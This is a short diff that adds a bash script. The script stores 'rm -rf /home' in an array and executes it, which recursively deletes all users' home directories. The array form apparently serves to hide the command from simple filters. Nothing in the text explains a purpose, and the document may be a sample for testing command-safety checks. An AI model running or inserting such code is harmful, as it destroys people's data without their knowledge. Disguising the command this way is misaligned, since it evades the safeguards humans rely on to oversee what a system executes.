@@ -1,0 +1,3 @@
+#!/bin/bash
+cmd=(rm -rf /home)
+"${cmd[@]}"
